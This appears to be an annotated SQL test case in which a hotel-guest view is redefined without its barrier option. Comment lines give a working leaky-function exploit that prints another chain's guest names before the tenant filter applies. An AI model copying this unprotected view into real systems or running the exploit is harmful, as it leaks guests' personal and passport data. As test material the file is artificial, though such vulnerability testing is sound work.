-- The view was replaced without its option: a cheap function of the caller sees the guests of all before
-- the filter.
-- about: api.guests, guests
-- as: hf_hotels_app
-- exploit: SET hotels.chain = 'cccccccc-0000-4000-8000-000000000001';
-- exploit: SET enable_indexscan = off; SET enable_bitmapscan = off;
-- exploit: CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS
-- exploit: $$BEGIN RAISE NOTICE 'seen %', $1; RETURN true; END$$;
-- exploit: SELECT count(*) FROM api.guests WHERE pg_temp.peek(full_name);
-- shows: seen Road-secret guest
-- The desk wants the initial, too.
CREATE OR REPLACE VIEW api.guests AS
  SELECT guest_no, full_name, passport, vip, left(full_name, 1) AS initial
    FROM data.guests WHERE chain_id = api.chain();
